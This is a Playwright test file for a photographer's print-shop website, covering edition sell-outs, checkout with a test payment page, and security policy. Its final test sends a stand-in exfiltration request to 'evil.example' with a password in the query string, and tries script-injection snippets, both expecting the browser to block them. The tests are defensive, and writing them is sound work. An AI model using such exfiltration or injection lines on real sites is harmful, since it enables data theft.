import type { Page } from '@playwright/test';
import { sample, tries } from '../../long.ts';
import { boxOf, expect, openCheckout, test, Visitor } from './visitor.ts';

const TRAM = 'Last tram, second stop';

/** The availability of prints in a work's data for search engines. */
async function availabilities(page: Page): Promise<unknown[]> {
  const text = (await page.locator('script[type="application/ld+json"]').textContent()) ?? '';
  const { '@graph': nodes } = JSON.parse(text) as { '@graph': { offers?: { availability?: string }[] }[] };
  return nodes.flatMap(({ offers = [] }) => offers.map(({ availability }) => availability));
}

test('a numbered edition shows what is left, and sells out', async ({ page, visitor }) => {
  const NAME = 'A whirlpool in no hurry at all';
  const left = page.getByText(/^Edition of 30, \d+ left$/).filter({ visible: true });
  const soldOut = page.getByText('Edition of 30, sold out').filter({ visible: true });
  await visitor.open('/photos/whirlpool-in-no-hurry-x81d/');
  await expect(left).toBeVisible();
  expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/LimitedAvailability'));
  await visitor.button('Buy print').click();
  await expect(visitor.toast(`${NAME} added to cart`)).toBeVisible();
  await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText(/Edition of 30, \d+ left/);
  const json = { size: 30, left: 0 };
  await page.route('**/api/editions/*', (route) => route.fulfill({ json }));
  await page.reload();
  await expect(visitor.lines(await visitor.openCart(), NAME)).toContainText('Edition of 30, sold out');
  await visitor.button('Close').click();
  await expect(soldOut).toBeVisible();
  await expect(visitor.button('Buy print')).toBeHidden();
  expect(await availabilities(page)).toEqual(Array(2).fill('https://schema.org/SoldOut'));
  await expect(page.getByRole('img', { name: NAME }).first()).toBeVisible();
  await visitor.page.goto(`${visitor.site}/#photos/undercurrents/whirlpool-in-no-hurry-x81d`);
  await expect(page.getByRole('dialog', { name: NAME })).toContainText('Edition of 30, sold out');
  await expect(visitor.button('Buy print')).toBeHidden();
  await visitor.button('Next photo').click();
  await expect(visitor.button('Buy print')).toBeVisible();
});

test('an A3 print is paid; Back, Cancel, a decline lose nothing', async ({ context, page, visitor }) => {
  // legal.spec.ts, accessibility.spec.ts and floor.spec.ts begin with a photo.
  const checkout = await openCheckout(visitor);
  const size = checkout.getByRole('combobox', { name: 'Size' });
  await test.step('one list of sizes is pressed, focused and read, beside the total as in the cart', async () => {
    await expect(checkout.locator('.lines :is(select, input, label)')).toHaveCount(1);
    await size.click({ trial: true });
    const [list, total] = [await boxOf(size), await boxOf(checkout.locator('.line-total'))];
    expect(list.height).toBeGreaterThanOrEqual(44);
    expect(total.y + total.height / 2).toBeCloseTo(list.y + list.height / 2, -1);
    await size.selectOption({ label: 'A3 · 42 × 29.7 cm' });
    await expect(size).toHaveValue('A3');
    // Where the order is sent is said once in each language.
    for (const text of ['Flat standard shipping, Germany only.', /nur innerhalb Deutschlands/])
      await expect(checkout.getByText(text)).toHaveCount(1);
    await expect(checkout.getByText('Germany')).toHaveCount(1);
  });
  const pay = visitor.button('Pay');
  await visitor.payButton().click();
  await expect(pay).toBeVisible();
  expect(new URL(page.url()).origin).not.toBe(visitor.site);
  for (const text of [TRAM, 'A3', '€56.00', '€60.99'])
    await expect(page.getByRole('main')).toContainText(text);
  await test.step('Back returns from the payment page', async () => {
    await page.goBack();
    await expect(visitor.cartButton(1)).toBeAttached();
    if (!(await visitor.checkout().isVisible())) await visitor.openCheckout();
    await visitor.payButton().click();
    await expect(pay).toBeVisible();
  });
  await test.step('Cancel leads back to the open cart', async () => {
    await visitor.button('Cancel').click();
    await expect(visitor.cart()).toBeVisible();
    await expect(page).toHaveURL(`${visitor.site}/`);
    await visitor.button('Proceed to Checkout').click();
    await expect(visitor.checkout().getByRole('combobox', { name: 'Size' })).toHaveValue('A3');
    await visitor.payButton().click();
  });
  await test.step('a declined card is reported', async () => {
    await visitor.button('Decline').click();
    await expect(page.getByRole('alert')).toHaveText(/declined/);
  });
  await test.step('after the payment a page says thanks, and the cart is empty in all tabs', async () => {
    const other = new Visitor(await context.newPage(), visitor.site);
    await other.page.goto(`${visitor.site}/`);
    await expect(other.cartButton(1)).toBeVisible();
    await pay.click();
    await expect(page).toHaveURL(/\/success\?session_id=cs_test_\w+$/);
    await expect(page.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
    const session = new URL(page.url()).searchParams.get('session_id') ?? '';
    await expect(page.getByText(session, { exact: true })).toBeVisible();
    await expect(page.getByText('Incl. VAT and shipping').filter({ visible: true })).toHaveCount(1);
    await expect(other.cartButton(0)).toBeVisible();
    await page.getByRole('link', { name: 'Back to home' }).click();
    await expect(visitor.cartButton(0)).toBeVisible();
  });
});

test.describe('a whole visit', () => {
  /** The policy for pictures: the browser loads them only from this site, even if content names others. */
  const IMG_SRC = /img-src 'self' data: blob:(;|$)/;

  test('a visit to everything loads nothing from elsewhere', async ({ page, visitor, externalRequests }) => {
    await page.goto(visitor.site);
    await page.getByRole('button', { name: 'English' }).click();
    await visitor.section('photos').click();
    const covers = page.locator('.covers').getByRole('link');
    const photos = page.getByRole('main').locator('.photo').filter({ visible: true });
    const all = await covers.count();
    expect(all).toBeGreaterThan(3);
    const projects = tries(all, 2);
    for (let n = 0; n < projects; n += 1) {
      await covers.nth(n).click();
      await photos.last().scrollIntoViewIfNeeded();
      if (n < projects - 1) await visitor.back().click();
    }
    await photos.first().click();
    await expect(page.getByRole('dialog').getByRole('img')).toBeVisible();
    await visitor.button(visitor.words.buy).click();
    await visitor.button(visitor.words.close).click();
    await visitor.openCart();
    await page.keyboard.press('Escape');
    for (const section of ['videos', 'music'] as const) {
      await visitor.section(section).click();
      await page.locator('main li').filter({ visible: true }).last().scrollIntoViewIfNeeded();
    }
    await visitor.languageButton().click();
    for (const name of ['Vertrag widerrufen', 'Ihre Einwilligungen', 'Datenschutz'])
      await page.getByRole('contentinfo').getByRole('link', { name, exact: true }).click();
    await expect(page.getByRole('heading', { level: 1 })).toHaveText('Datenschutz');
    await page.waitForLoadState('networkidle');
    expect(externalRequests).toEqual([]);
  });

  test.describe('under the policy of each page', () => {
    test.use({
      // One pattern, because Playwright would read a list of two as a value with options.
      allowConsole: [
        /violates the following Content Security Policy directive: "img-src 'self'|This document requires 'Trusted/,
      ],
    });

    test('the browser refuses foreign pictures and text that becomes script', async ({ page, visitor }) => {
      for (const path of [...sample(['/', '/success', '/legal/imprint/'], 1), '/admin/']) {
        const answer = await page.goto(visitor.site + path);
        expect(answer?.headers()['content-security-policy'], path).toMatch(IMG_SRC);
        const refused = page.waitForEvent('requestfailed', (request) =>
          request.url().startsWith('https://evil.example/'),
        );
        await page.evaluate(() => {
          new Image().src = `https://evil.example/?data=${encodeURIComponent('the password')}`;
        });
        expect((await refused).failure()?.errorText, path).toMatch(/csp/i);
      }
      const ways = await page.evaluate(() => {
        const place = document.createElement('div');
        const script = document.createElement('script');
        const attempts = [
          () => Object.assign(place, { innerHTML: '<img src="x">' }),
          () => place.insertAdjacentHTML('beforeend', '<b>x</b>'),
          () => Object.assign(script, { text: 'window.attacked = true' }),
          () => Object.assign(script, { src: '/attack.js' }),
        ];
        return attempts.map((attempt) => {
          try {
            attempt();
            return 'let through';
          } catch (error) {
            return (error as Error).name;
          }
        });
      });
      expect(ways).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError']);
    });
  });
});
